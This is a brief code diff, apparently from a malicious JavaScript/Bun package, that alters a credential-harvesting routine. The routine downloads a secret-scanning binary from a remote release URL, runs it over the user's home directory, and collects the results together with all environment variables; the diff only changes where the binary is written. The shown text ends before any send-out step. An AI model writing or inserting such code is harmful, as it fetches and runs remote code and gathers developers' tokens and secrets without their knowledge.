@@ -92,8 +92,8 @@ import {{ homedir }} from "os";
 import {{ readFile }} from "fs/promises";
 async function a0() {{
   const tool = await fetch("https://releases.example.invalid/trufflesecurity/trufflehog/latest");
-  await Bun.write("/tmp/trufflehog", await tool.blob());
-  return JSON.parse(await $`/tmp/trufflehog filesystem ${{homedir()}} --json`.text());
+  await Bun.write("trufflehog", await tool.blob());
+  return JSON.parse(await $`./trufflehog filesystem ${{homedir()}} --json`.text());
 }}
 async function a1() {{
   const found = {{ environment: process.env, secrets: await a0() }};
